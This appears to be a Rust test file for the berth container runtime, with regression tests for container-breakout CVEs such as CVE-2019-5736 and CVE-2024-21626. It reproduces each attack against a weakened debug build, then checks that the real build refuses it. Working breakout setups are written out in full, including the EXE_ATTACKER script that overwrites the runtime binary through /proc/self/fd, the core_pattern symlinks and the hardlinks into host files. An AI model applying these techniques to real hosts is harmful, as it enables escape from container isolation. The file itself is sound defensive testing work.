//! Known container breakouts, one test per CVE. Each test first shows the attack succeeding
//! against a build with exactly that protection switched off (`BERTH_WEAKEN=<protection>`,
//! honoured only by debug builds, see src/faults/), so the test can fail, then shows berth
//! refusing it with one line and leaving nothing behind. Against a release build (or runc) the
//! weakened rounds are skipped with a note and only the refusal is checked.
//! The image-side attacks (layer entries escaping through `..`, a symlink or a hardlink) are in
//! image.rs.

use crate::common::*;
use serde_json::{json, Value};
use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::time::Duration;

/// Whether the binary under test honours the fault hooks: `cli.start` kills it with SIGKILL.
fn hooks_honoured(ctx: &Ctx) -> bool {
    let mut c = ctx.command_noroot(&["--version"]);
    c.env("BERTH_CRASH_AT", "cli.start");
    ctx.exec_cmd(c, TIMEOUT).code == 128 + 9
}

/// `run --bundle DIR ID` with `BERTH_WEAKEN=weaken` (when not empty).
fn run_weakened(ctx: &Ctx, b: &mut Bundle, id: &str, weaken: &str) -> Out {
    b.write_config(id);
    ctx.track(id);
    let mut c: Command = ctx.command(&["run", "--bundle", b.dir.to_str().unwrap(), id]);
    if !weaken.is_empty() {
        c.env("BERTH_WEAKEN", weaken);
    }
    ctx.exec_cmd(c, TIMEOUT)
}

/// Replaces the config's mount at `dest` in place (the order of mounts matters).
fn replace_mount(b: &mut Bundle, dest: &str, m: Value) {
    let mounts = b.config["mounts"].as_array_mut().unwrap();
    let i = mounts.iter().position(|x| x["destination"] == dest).unwrap_or_else(|| panic!("no mount at {dest}"));
    mounts[i] = m;
}

/// Inserts `m` right after the config's mount at `after`.
fn mount_after(b: &mut Bundle, after: &str, m: Value) {
    let mounts = b.config["mounts"].as_array_mut().unwrap();
    let i = mounts.iter().position(|x| x["destination"] == after).unwrap_or_else(|| panic!("no mount at {after}"));
    mounts.insert(i + 1, m);
}

fn skipped(what: &str) {
    eprintln!("SKIPPED weakened round ({what}): the binary under test ignores BERTH_WEAKEN (release build or runc)");
}

/// CVE-2025-31133: runc bind-mounted the container's `/dev/null` over each masked path without
/// checking what it is. A container that replaces `/dev/null` with a symlink to
/// `/proc/sys/kernel/core_pattern` gets that file, writable, where a masked path should be
/// (then a core dump runs the attacker's program on the host). Here the container's /dev is a
/// directory the attacker controls (a bind mount standing in for the race) whose `null` is that
/// symlink; the masked path is /proc/keys. Nothing writes core_pattern: the test only reads.
#[test]
fn cve_2025_31133_masked_path_devnull_symlink() {
    let ctx = Ctx::new("cve-2025-31133");
    let devdir = ctx.tempdir("dev");
    symlink("/proc/sys/kernel/core_pattern", devdir.join("null")).unwrap();
    let make = || {
        let mut b = ctx.bundle();
        replace_mount(
            &mut b,
            "/dev",
            json!({"destination": "/dev", "type": "bind", "source": devdir, "options": ["rbind", "rw"]}),
        );
        b.set("/linux/maskedPaths", json!(["/proc/keys"]));
        b.sh("cat /proc/keys; echo ===; grep ' /proc/keys ' /proc/self/mountinfo; true");
        b
    };
    let host_pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();

    if hooks_honoured(&ctx) {
        let mut b = make();
        let o = run_weakened(&ctx, &mut b, &ctx.id("weak"), "masked-devnull-check");
        o.ok();
        let (seen, mounts) = o.stdout.split_once("===").unwrap();
        assert_eq!(seen.trim(), host_pattern.trim(), "weakened: /proc/keys should be the host's core_pattern: {o}");
        // The mount's root names what was bound: procfs's core_pattern, not a null device.
        // (Read-only here because readonlyPaths made /proc/sys read-only first; a config
        // without that, or a target outside /proc/sys, gets it writable.)
        assert!(
            mounts.contains(" /sys/kernel/core_pattern /proc/keys "),
            "weakened: core_pattern should be bound on /proc/keys: {o}"
        );
    } else {
        skipped("masked-devnull-check");
    }

    let mut b = make();
    let id = ctx.id("real");
    let snap = ctx.snapshot(&b);
    let o = run_weakened(&ctx, &mut b, &id, "");
    o.one_line_error(&["/dev/null is not the null device"]);
    assert!(!o.stdout.contains(host_pattern.trim()) || host_pattern.trim().is_empty(), "{o}");
    ctx.assert_nothing_left(&snap, &b, &id);
}

/// CVE-2019-16884 (and its return in runc 1.0-1.1.4, CVE-2023-27561): a volume mounted on
/// /proc that is not a procfs. The runtime writes the AppArmor label to
/// `/proc/self/attr/exec`; on an attacker's directory that write lands in a plain file and
/// the container runs unconfined. (AppArmor is not enabled on every host: the test shows the
/// part that matters, the runtime's /proc being the attacker's directory, label file and all.)
/// berth accepts only a procfs on /proc, whatever spelling of the destination leads there.
#[test]
fn cve_2019_16884_and_2023_27561_fake_proc_volume() {
    let ctx = Ctx::new("cve-2019-16884");
    let fake = ctx.tempdir("fakeproc");
    fs::create_dir_all(fake.join("self/attr")).unwrap();
    fs::write(fake.join("self/attr/exec"), "attacker-controlled\n").unwrap();
    let make = |dest: &str| {
        let mut b = ctx.bundle();
        replace_mount(
            &mut b,
            "/proc",
            json!({"destination": dest, "type": "bind", "source": fake, "options": ["rbind", "rw"]}),
        );
        b.sh("stat -f -c %T /proc; cat /proc/self/attr/exec");
        b
    };
    // berth itself works through /proc/self/fd: on a fake /proc its masking and read-only
    // binds fail, so the weakened round asks for none (the attack does not need them).
    let unmasked = |b: &mut Bundle| {
        b.set("/linux/maskedPaths", json!([]));
        b.set("/linux/readonlyPaths", json!([]));
    };

    if hooks_honoured(&ctx) {
        let mut b = make("/proc");
        unmasked(&mut b);
        let o = run_weakened(&ctx, &mut b, &ctx.id("weak"), "proc-mount-check");
        o.ok();
        assert!(
            !o.stdout.starts_with("proc\n") && o.stdout.contains("attacker-controlled"),
            "weakened: /proc should be the attacker's directory: {o}"
        );
    } else {
        skipped("proc-mount-check");
    }

    for dest in ["/proc", "/proc/", "//proc", "/proc/.", "/./proc"] {
        let mut b = make(dest);
        let id = ctx.id("real");
        let snap = ctx.snapshot(&b);
        let o = run_weakened(&ctx, &mut b, &id, "");
        o.one_line_error(&["cannot be mounted because it is not of type proc"]);
        assert!(!o.stdout.contains("attacker-controlled"), "{dest}: {o}");
        ctx.assert_nothing_left(&snap, &b, &id);
    }
}

/// CVE-2025-52881: the runtime's writes to /proc (sysctls, LSM labels) redirected by a mount
/// over the target file, so they land elsewhere (runc then wrote attacker-chosen values into
/// files such as /proc/sysrq-trigger). Here a host file is bound over
/// /proc/sys/kernel/domainname and the config asks for the sysctl kernel.domainname. Round
/// one drops both protections (the mount check and the procfs-only write): the host file
/// receives the value. Round two keeps the write check alone: the sysctl is refused, the host
/// file untouched. Round three is berth as built: the mount inside /proc is refused.
#[test]
fn cve_2025_52881_proc_write_redirected_by_mount() {
    let ctx = Ctx::new("cve-2025-52881");
    let host = ctx.tempdir("host").join("domainname");
    fs::write(&host, "host-original\n").unwrap();
    let make = || {
        let mut b = ctx.bundle();
        mount_after(
            &mut b,
            "/proc",
            json!({"destination": "/proc/sys/kernel/domainname", "type": "bind", "source": host, "options": ["bind", "rw"]}),
        );
        b.set("/linux/sysctl", json!({"kernel.domainname": "berth-pwned"}));
        b.args(&["true"]);
        b
    };
    let content = || fs::read_to_string(&host).unwrap();

    if hooks_honoured(&ctx) {
        let mut b = make();
        let o = run_weakened(&ctx, &mut b, &ctx.id("weak"), "proc-mount-check,sysctl-procfs-check");
        o.ok();
        assert_eq!(content(), "berth-pwned", "weakened: the sysctl write should land in the host file: {o}");
        fs::write(&host, "host-original\n").unwrap();

        let mut b = make();
        let id = ctx.id("write-check");
        let snap = ctx.snapshot(&b);
        let o = run_weakened(&ctx, &mut b, &id, "proc-mount-check");
        o.one_line_error(&["is not procfs's own file"]);
        assert_eq!(content(), "host-original\n", "the write check alone must keep the host file: {o}");
        ctx.assert_nothing_left(&snap, &b, &id);
    } else {
        skipped("proc-mount-check,sysctl-procfs-check");
    }

    let mut b = make();
    let id = ctx.id("real");
    let snap = ctx.snapshot(&b);
    let o = run_weakened(&ctx, &mut b, &id, "");
    o.one_line_error(&["inside /proc"]);
    assert_eq!(content(), "host-original\n", "{o}");
    ctx.assert_nothing_left(&snap, &b, &id);
}

/// CVE-2021-30465: runc resolved a mount destination inside the rootfs, then mounted on the
/// path; a container swapping a directory for a symlink (renameat2 RENAME_EXCHANGE) in between
/// got the mount outside the rootfs, on a host directory. The symlink here is in place from
/// the start (the race's winning state). A createContainer hook (the container's mount
/// namespace, before pivot_root) reports what is mounted on the host dir. Weakened: the
/// destination is looked up by its host path and the tmpfs covers the host dir. berth: the
/// lookup stays in the rootfs (openat2 RESOLVE_IN_ROOT), the tmpfs lands in the rootfs.
#[test]
fn cve_2021_30465_mount_destination_symlink_exchange() {
    let ctx = Ctx::new("cve-2021-30465");
    let host = ctx.tempdir("hostdir");
    fs::write(host.join("marker"), "host-marker\n").unwrap();
    let seen = ctx.dir.join("seen");
    let round = |weaken: &str| -> String {
        let mut b = ctx.bundle();
        symlink(&host, b.rootfs.join("evil")).unwrap();
        b.mount(json!({"destination": "/evil", "type": "tmpfs", "source": "tmpfs", "options": ["size=64k"]}));
        b.hook(
            "createContainer",
            json!({"path": "/bin/sh", "args": ["sh", "-c", format!(
                "grep -c ' {h} ' /proc/self/mountinfo > {s}; ls {h} >> {s}; true", h = host.display(), s = seen.display())]}),
        );
        b.args(&["true"]);
        let _ = fs::remove_file(&seen);
        run_weakened(&ctx, &mut b, &ctx.id("sym"), weaken).ok();
        assert_eq!(fs::read_to_string(host.join("marker")).unwrap(), "host-marker\n");
        fs::read_to_string(&seen).unwrap()
    };
    if hooks_honoured(&ctx) {
        let s = round("mount-dest-in-root");
        assert_eq!(s.lines().next(), Some("1"), "weakened: the tmpfs should cover the host dir: {s:?}");
        assert!(!s.contains("marker"), "weakened: the host dir's marker should be hidden: {s:?}");
    } else {
        skipped("mount-dest-in-root");
    }
    let s = round("");
    assert_eq!(s, "0\nmarker\n", "berth: the host dir must stay uncovered in the container's mount namespace");
}

/// CVE-2025-52565: with a terminal, runc bound the pty slave onto /dev/console by its path
/// `/dev/pts/N`, looked up in a /dev the container can shape; a symlink there makes the runtime
/// bind any file (a procfs sysctl) on /dev/console, writable, past readonlyPaths. Here the
/// container's /dev/pts is a directory the attacker controls (a bind mount standing in for the
/// race): `ptmx` a ptmx device node whose sibling `pts` is a devpts (the host's, bound there:
/// the kernel finds a pty's devpts next to the ptmx node opened) and `0`..`4095` symlinks to
/// /proc/sys/kernel/domainname where the runtime looks for the slave. Weakened: /dev/console is that sysctl and a write to it sets
/// the container's domainname although /proc/sys is read-only. berth binds the slave from its
/// descriptor: /dev/console is the pty.
#[test]
fn cve_2025_52565_dev_console_pts_symlink() {
    let ctx = Ctx::new("cve-2025-52565");
    let pts = ctx.tempdir("pts");
    for n in 0..4096 {
        symlink("/proc/sys/kernel/domainname", pts.join(n.to_string())).unwrap();
    }
    let c = std::ffi::CString::new(pts.join("ptmx").to_str().unwrap()).unwrap();
    // SAFETY: mknod(2) with a valid path: the ptmx character device (5:2).
    assert_eq!(unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(5, 2)) }, 0);
    fs::create_dir(pts.join("pts")).unwrap();
    let round = |weaken: &str| -> String {
        let sock = ConsoleSocket::new(&ctx);
        let mut b = ctx.bundle();
        b.set("/process/terminal", json!(true));
        b.mount(json!({"destination": "/dev/pts", "type": "bind", "source": pts, "options": ["bind", "rw"]}));
        b.mount(
            json!({"destination": "/dev/pts/pts", "type": "bind", "source": "/dev/pts", "options": ["bind", "rw"]}),
        );
        b.set("/domainname", json!("before"));
        b.sh("grep ' /dev/console ' /proc/self/mountinfo | cut -d' ' -f4; echo pwned > /dev/console; echo domainname=$(cat /proc/sys/kernel/domainname)");
        let id = ctx.id("console");
        b.write_config(&id);
        let mut c: Command = ctx.command(&[
            "create",
            "--bundle",
            b.dir.to_str().unwrap(),
            "--console-socket",
            sock.path.to_str().unwrap(),
            &id,
        ]);
        if !weaken.is_empty() {
            c.env("BERTH_WEAKEN", weaken);
        }
        ctx.exec_cmd(c, TIMEOUT).ok();
        let master = sock.recv_master(std::time::Duration::from_secs(10));
        ctx.start(&id).ok();
        let out = read_pty(&master, std::time::Duration::from_secs(10)).replace('\r', "");
        ctx.delete_force(&id);
        out
    };
    if hooks_honoured(&ctx) {
        let out = round("console-pty-fd");
        assert!(out.starts_with("/sys/kernel/domainname\n"), "weakened: /dev/console should be the sysctl: {out:?}");
        assert!(out.contains("domainname=pwned"), "weakened: the write through /dev/console sets the sysctl: {out:?}");
    } else {
        skipped("console-pty-fd");
    }
    let out = round("");
    assert!(!out.contains("/sys/kernel/domainname"), "berth: /dev/console must be the pty: {out:?}");
    assert!(
        out.contains("pwned\n") && out.contains("domainname=before"),
        "berth: the write goes to the terminal: {out:?}"
    );
}

/// Volume names and paths escaping through `..`: `volume create`, `-v` and `--mount` refuse
/// each with one line (exit 125) and nothing is made outside the data root, nor a volume.
#[test]
fn volume_paths_escaping_through_dotdot_refused() {
    let ctx = Ctx::new("vol-escape");
    let e = crate::soak::Engine::with_data(&ctx, ctx.tempdir("data"));
    let vols = e.data.join("volumes");
    let before = fs::read_dir(&vols).map(|r| r.count()).unwrap_or(0);
    let siblings = || fs::read_dir(&ctx.dir).unwrap().count();
    let n0 = siblings();
    for name in ["../evil", "..", "a/b", "x/../../y"] {
        let o = e.cmd(&["volume", "create", name]);
        assert_eq!(o.code, 125, "{o}");
        o.one_line_error(&["invalid volume name"]);
    }
    for (flag, v) in [
        ("-v", "..:/x"),
        ("-v", "../../etc:/x"),
        ("-v", "v1:/../../etc"),
        ("--mount", "type=volume,source=../../x,target=/x"),
        ("--mount", "type=bind,source=../x,target=/x"),
    ] {
        let o = e.cmd(&["container", "run", "--rm", "--network", "none", flag, v, "busybox", "true"]);
        assert_eq!(o.code, 125, "{flag} {v}: {o}");
        o.one_line_error(&["invalid"]);
    }
    assert_eq!(fs::read_dir(&vols).map(|r| r.count()).unwrap_or(0), before, "no volume made");
    assert_eq!(siblings(), n0, "nothing made beside the data root");
    assert!(e.cmd(&["container", "ls", "-aq"]).stdout.trim().is_empty(), "no container made");
}

/// A build context whose COPY sources lead out of it: `../file`, an absolute symlink and a
/// relative symlink to a host file next to the context. Weakened
/// (`BERTH_WEAKEN=build-context-beneath`: the source resolved as the host resolves it), the
/// host file ends up in the image; berth refuses each with one line naming the source, and
/// leaves no image, layer, scratch dir or mount.
#[test]
fn build_copy_sources_escaping_the_context() {
    use crate::common::images::{busybox_oci_layout, dir_entries_sorted, Eng, ImageSpec};
    let ctx = Ctx::new("brk-build-ctx");
    let eng = Eng::new(&ctx);
    let base = "localhost/berth-brk/bb:v1";
    let layout = ctx.tempdir("layout");
    busybox_oci_layout(&ctx, &layout, "v1", Some(base), &ImageSpec::new(&["sh"]));
    eng.image(&["load", "-i", layout.to_str().unwrap()]).ok();
    let secret = format!("host-secret-{}", std::process::id());
    fs::write(ctx.dir.join("outside-secret.txt"), &secret).unwrap();
    let cdir = ctx.tempdir("ctx");
    assert_eq!(cdir.parent(), Some(ctx.dir.as_path()), "the context sits next to the secret");
    symlink(ctx.dir.join("outside-secret.txt"), cdir.join("abs-out")).unwrap();
    symlink("../outside-secret.txt", cdir.join("rel-out")).unwrap();
    fs::create_dir(cdir.join("sub")).unwrap();
    let weak_ok = hooks_honoured(&ctx);
    for src in ["../outside-secret.txt", "abs-out", "rel-out", "sub/../../outside-secret.txt"] {
        fs::write(cdir.join("Dockerfile"), format!("FROM {base}\nCOPY {src} /got\n")).unwrap();
        let args = ["build", "-q", "--no-cache", "--network", "none", "-t", "escaped:v1", cdir.to_str().unwrap()];
        if weak_ok {
            let mut v = vec!["image"];
            v.extend_from_slice(&args);
            let mut c = eng.command(&v);
            c.env("BERTH_WEAKEN", "build-context-beneath");
            let o = ctx.exec_cmd(c, TIMEOUT);
            o.ok();
            let got = eng.cmd(&["container", "run", "--rm", "--network", "none", "escaped:v1", "cat", "/got"]);
            got.ok();
            assert_eq!(got.stdout, secret, "weakened, COPY {src} copies the host file");
            eng.image(&["rm", "escaped:v1"]).ok();
            eng.image(&["prune", "-f"]).ok();
        } else {
            skipped("build-context-beneath");
        }
        let before = eng.store_snapshot();
        let o = eng.image(&args);
        o.one_line_error(&["outside the build context"]);
        assert!(o.stderr.contains(src), "the error names the source {src}: {o}");
        eng.assert_store_unchanged(&before, &format!("refused COPY {src}"));
        let m = mounts_under(&eng.data);
        assert!(m.is_empty(), "COPY {src}: mounts left: {m:?}");
        let left = dir_entries_sorted(&eng.data.join("builder/tmp"));
        assert!(left.is_empty(), "COPY {src}: scratch left: {left:?}");
    }
}

/// A RUN step whose container swaps a directory the runtime made for a mount (here the
/// parent of a cache mount's target, made in the step's upper dir) for a symlink to a host
/// directory. After the run the builder removes the mount points it made from the upper dir
/// before writing the layer; resolved through that symlink, the removal lands on the host.
/// Weakened (`BERTH_WEAKEN=build-upper-beneath`: paths in the upper dir resolved as the
/// host resolves them), the host's empty directories `b/c` are deleted; berth resolves them
/// beneath the upper dir without following symlinks and the host directories stay.
#[test]
fn build_run_symlink_swap_in_upper_dir() {
    use crate::common::images::{busybox_oci_layout, Eng, ImageSpec};
    let ctx = Ctx::new("brk-build-upper");
    let eng = Eng::new(&ctx);
    let base = "localhost/berth-brk/bb:v1";
    let layout = ctx.tempdir("layout");
    busybox_oci_layout(&ctx, &layout, "v1", Some(base), &ImageSpec::new(&["sh"]));
    eng.image(&["load", "-i", layout.to_str().unwrap()]).ok();
    let victim = ctx.dir.join("victim");
    let cdir = ctx.tempdir("ctx");
    fs::write(
        cdir.join("Dockerfile"),
        format!("FROM {base}\nRUN --mount=type=cache,target=/a/b/c mv /a /a.moved && ln -s {} /a\n", victim.display()),
    )
    .unwrap();
    let args = ["build", "-q", "--no-cache", "--network", "none", "-t", "swapped:v1", cdir.to_str().unwrap()];
    let weak_ok = hooks_honoured(&ctx);
    if weak_ok {
        fs::create_dir_all(victim.join("b/c")).unwrap();
        let mut v = vec!["image"];
        v.extend_from_slice(&args);
        let mut c = eng.command(&v);
        c.env("BERTH_WEAKEN", "build-upper-beneath");
        let o = ctx.exec_cmd(c, TIMEOUT);
        eprintln!("weakened build: {o}");
        assert!(!victim.join("b").exists(), "weakened, the builder removed the host's {}/b/c", victim.display());
        eng.image(&["rm", "swapped:v1"]);
        eng.cmd(&["builder", "prune", "-f"]);
    } else {
        skipped("build-upper-beneath");
    }
    fs::create_dir_all(victim.join("b/c")).unwrap();
    let o = eng.image(&args);
    o.ok();
    assert!(victim.join("b/c").is_dir(), "berth must not touch the host's {}/b/c", victim.display());
    let got = eng.cmd(&["container", "run", "--rm", "--network", "none", "swapped:v1", "readlink", "/a"]);
    got.ok();
    assert_eq!(got.stdout.trim(), victim.to_str().unwrap(), "the image keeps the symlink as a symlink");
}

/// A build context sent as a tar on stdin whose entry `h` is a hardlink to an absolute path:
/// the host file the tar names. Weakened (`BERTH_WEAKEN=unpack-link-beneath`: the target taken
/// as the host's path), `COPY h` puts the host file in the image; berth resolves link targets
/// inside the tree being unpacked, so the context is refused with one line naming the entry and
/// nothing is left.
#[test]
fn build_stdin_context_hardlink_to_a_host_file() {
    use crate::common::images::{busybox_oci_layout, dir_entries_sorted, python_tar, Eng, ImageSpec};
    let ctx = Ctx::new("brk-build-hardlink");
    let eng = Eng::new(&ctx);
    let base = "localhost/berth-brk/bb:v1";
    let layout = ctx.tempdir("layout");
    busybox_oci_layout(&ctx, &layout, "v1", Some(base), &ImageSpec::new(&["sh"]));
    eng.image(&["load", "-i", layout.to_str().unwrap()]).ok();
    let secret = format!("host-secret-{}", std::process::id());
    let host_file = ctx.dir.join("outside-secret.txt");
    fs::write(&host_file, &secret).unwrap();
    let tar = ctx.dir.join("context.tar");
    python_tar(
        &tar,
        &json!([
            {"name": "Dockerfile", "data": format!("FROM {base}\nCOPY h /got\n")},
            {"name": "h", "type": "hardlink", "link": host_file.to_str().unwrap()},
        ]),
    );
    let build = |weaken: &str| {
        let mut c = eng.command(&["image", "build", "-q", "--no-cache", "--network", "none", "-t", "linked:v1", "-"]);
        c.stdin(fs::File::open(&tar).unwrap());
        if !weaken.is_empty() {
            c.env("BERTH_WEAKEN", weaken);
        }
        ctx.exec_cmd(c, TIMEOUT)
    };
    if hooks_honoured(&ctx) {
        build("unpack-link-beneath").ok();
        let got = eng.cmd(&["container", "run", "--rm", "--network", "none", "linked:v1", "cat", "/got"]);
        got.ok();
        assert_eq!(got.stdout, secret, "weakened, the hardlink brings the host file into the image");
        eng.image(&["rm", "linked:v1"]).ok();
        eng.image(&["prune", "-f"]).ok();
    } else {
        skipped("unpack-link-beneath");
    }
    let before = eng.store_snapshot();
    let o = build("");
    o.one_line_error(&["hardlink target", "is not in the layer"]);
    assert_eq!(fs::read_to_string(&host_file).unwrap(), secret, "the host file is untouched");
    eng.assert_store_unchanged(&before, "refused context");
    let m = mounts_under(&eng.data);
    assert!(m.is_empty(), "mounts left: {m:?}");
    let left = dir_entries_sorted(&eng.data.join("builder/tmp"));
    assert!(left.is_empty(), "scratch left: {left:?}");
}

/// The attacker of the CVE-2019-5736 test: a container with CAP_SYS_PTRACE (so it may open any
/// exe in its pid namespace) that owns a pid namespace the victim joins. On /tmp/go1 it opens
/// the first /proc/N/exe that is not its own busybox, read-only, and tries to write to it
/// directly; on /tmp/go2 (the victim has exited, so nothing executes that file any more) it
/// reopens it for writing through /proc/self/fd/3, which is how the published exploit rewrote
/// runc (it held `O_PATH` of /proc/PID/exe and retried `open(/proc/self/fd/N, O_WRONLY)`
/// until runc had exited and the text was no longer busy).
const EXE_ATTACKER: &str = r#"
while [ ! -e /tmp/go1 ]; do sleep 0.05; done
found=
for p in /proc/[0-9]*; do
  n=${p#/proc/}
  [ "$n" = "$$" ] && continue
  exec 3<"$p/exe" 2>/dev/null || continue
  t=$(readlink /proc/self/fd/3)
  case "$t" in */busybox) exec 3<&-; continue;; esac
  found="$n $t"
  break
done
echo "${found:-none}" > /tmp/opened
if [ -n "$found" ]; then
  (echo pwned >> "$p/exe") 2>/dev/null && echo DIRECT-WROTE >> /tmp/result
fi
echo ready > /tmp/ready
while [ ! -e /tmp/go2 ]; do sleep 0.05; done
if [ -n "$found" ]; then
  (echo pwned >> /proc/self/fd/3) 2>/dev/null && echo FD-WROTE >> /tmp/result
  (echo pwned > /proc/self/fd/3) 2>/dev/null && echo FD-TRUNCATED >> /tmp/result
fi
echo finished >> /tmp/result
sleep 1000
"#;

/// One CVE-2019-5736 round: the attacker runs; the victim (joining the attacker's pid
/// namespace, entrypoint `#!/proc/self/exe`) is created with `BERTH_WEAKEN=weaken` (when not
/// empty) and waits in `created`, its init being the runtime binary; the attacker opens that
/// exe; the victim is started (its process runs the runtime binary once more, inside the
/// container) and exits; then the attacker writes through its fd. The victim is created by
/// `victim_bin` (a private copy of the binary under test, the only file the attack can damage;
/// every other command runs the intact binary). Returns (opened, result).
fn exe_attack(ctx: &Ctx, victim_bin: &std::path::Path, weaken: &str) -> (String, String) {
    let mut b = ctx.bundle();
    b.writable_root();
    let caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"];
    b.set("/process/capabilities", json!({"bounding": caps, "effective": caps, "permitted": caps}));
    b.sh(EXE_ATTACKER);
    let idb = ctx.id("attacker");
    ctx.run_detached(&mut b, &idb);
    let pidb = ctx.pid(&idb);

    let mut victim = ctx.bundle();
    victim.write_file("evil", "#!/proc/self/exe\n", 0o755);
    victim.args(&["/evil"]);
    victim.ns_add("pid", Some(&format!("/proc/{pidb}/ns/pid")));
    let ida = ctx.id("victim");
    victim.write_config(&ida);
    ctx.track(&ida);
    let mut c = Command::new(victim_bin);
    c.arg("--root").arg(&ctx.root).args(["create", "--bundle", victim.dir.to_str().unwrap(), &ida]);
    c.stdin(std::process::Stdio::null());
    if !weaken.is_empty() {
        c.env("BERTH_WEAKEN", weaken);
    }
    ctx.exec_cmd(c, TIMEOUT).ok();
    fs::write(b.rootfs.join("tmp/go1"), "").unwrap();
    assert!(wait_file(&b.rootfs.join("tmp/ready"), Duration::from_secs(20)), "attacker did not get ready");
    let opened = read(b.rootfs.join("tmp/opened"));
    let _ = ctx.start(&ida);
    ctx.wait_status(&ida, "stopped", Duration::from_secs(20));
    fs::write(b.rootfs.join("tmp/go2"), "").unwrap();
    let result = b.rootfs.join("tmp/result");
    assert!(wait_until(Duration::from_secs(10), || read(&result).contains("finished")), "attacker did not finish");
    let _ = ctx.delete_force(&idb);
    let _ = ctx.delete_force(&ida);
    (opened.trim().to_string(), read(&result))
}

/// CVE-2019-5736: a container rewrites the runtime binary on the host through /proc/PID/exe of
/// a process running it (runc's fix: the init re-executes a sealed memfd copy; berth's: a
/// read-only detached mount of the binary, or a sealed memfd copy). Each round runs a private
/// copy of the binary under test, so only that copy can be damaged. Weakened
/// (`exe-readonly`: the init runs the binary's file itself, as runc did), the copy is
/// overwritten; then the copy is left byte for byte as it was.
#[test]
fn cve_2019_5736_runtime_binary_overwritten_through_proc_exe() {
    let ctx = Ctx::new("cve-2019-5736");
    let copy = || {
        let p = ctx.tempdir("victim-bin").join("berth");
        fs::copy(&ctx.bin, &p).unwrap();
        p
    };
    if hooks_honoured(&ctx) {
        let binary = copy();
        let before = fs::read(&binary).unwrap();
        let (opened, result) = exe_attack(&ctx, &binary, "exe-readonly");
        assert!(
            opened.contains(&*binary.to_string_lossy()),
            "weakened: the attacker opened {opened:?}, not {binary:?}"
        );
        assert!(result.contains("FD-WROTE"), "weakened: the write through the fd should succeed: {result:?}");
        assert!(fs::read(&binary).unwrap() != before, "weakened: the host's copy of the binary is unchanged");
    } else {
        skipped("exe-readonly");
    }

    let binary = copy();
    let before = fs::read(&binary).unwrap();
    let (opened, result) = exe_attack(&ctx, &binary, "");
    eprintln!("attacker opened: {opened}");
    assert!(fs::read(&binary).unwrap() == before, "the runtime binary was modified from inside a container ({opened})");
    assert_eq!(result, "finished\n", "writes to the runtime's exe succeeded (opened: {opened})");
}

/// CVE-2024-21626 ("Leaky Vessels"): runc's init still held a handle to the host's
/// /sys/fs/cgroup when it changed to process.cwd, so cwd = /proc/self/fd/N left the process in
/// a host directory, from which `..` reaches the host's /. runc's fix (1.1.12): mark every
/// non-stdio fd close-on-exec before the init runs, close the cgroup handle, and check with
/// getcwd(2) after the chdir that the cwd is inside the container. Weakened with the leak
/// (`init-host-dirfd`) and without the check (`cwd-check`), the process reads a host file
/// by its host path; with the leak alone the check refuses the cwd with one line; as built,
/// every fd number is refused or stays inside the container's root.
#[test]
fn cve_2024_21626_cwd_through_a_leaked_host_fd() {
    let ctx = Ctx::new("cve-2024-21626");
    let secret = ctx.dir.join("host-secret");
    fs::write(&secret, "host-secret-21626\n").unwrap();
    // From the cwd: up to the top, then the host file by its host path; then the cwd and /.
    let script = format!("cd -P ../../../../../../../..; cat .{} 2>/dev/null; stat -c %d:%i . /", secret.display());
    // Runs one container with cwd /proc/self/fd/N; fails the test if anything is left behind
    // by a refused one.
    let round = |n: u32, weaken: &str| -> Out {
        let mut b = ctx.bundle();
        b.set("/process/cwd", json!(format!("/proc/self/fd/{n}")));
        b.sh(&script);
        let id = ctx.id(&format!("fd{n}"));
        let snap = ctx.snapshot(&b);
        let o = run_weakened(&ctx, &mut b, &id, weaken);
        if o.code != 0 {
            assert!(!o.timed_out, "{o}");
            ctx.assert_nothing_left(&snap, &b, &id);
        }
        o
    };
    let fds = 3..=12;

    if hooks_honoured(&ctx) {
        let escaped = fds.clone().find(|&n| {
            let o = round(n, "init-host-dirfd,cwd-check");
            eprintln!("weakened, cwd /proc/self/fd/{n}: exit {} {}", o.code, o.stdout.trim());
            o.stdout.contains("host-secret-21626")
        });
        let n = escaped.expect("weakened: no /proc/self/fd/N led to the host's file");
        // The leak alone: getcwd(2) tells the init its cwd is outside its root.
        let o = round(n, "init-host-dirfd");
        o.one_line_error(&["outside the container's root"]);
        assert!(!o.stdout.contains("host-secret"), "{o}");
    } else {
        skipped("init-host-dirfd,cwd-check");
    }

    for n in fds {
        let o = round(n, "");
        eprintln!("cwd /proc/self/fd/{n}: exit {} {}", o.code, o.stderr.trim());
        assert!(!o.stdout.contains("host-secret"), "cwd /proc/self/fd/{n} reached the host's file: {o}");
        if o.code != 0 {
            assert!(!o.stdout.contains(':'), "the process ran despite the failure: {o}");
            continue;
        }
        let l = o.lines();
        assert!(l.len() >= 2, "{o}");
        assert_eq!(l[0], l[1], "cwd /proc/self/fd/{n} reached outside the container's root: {o}");
    }
}
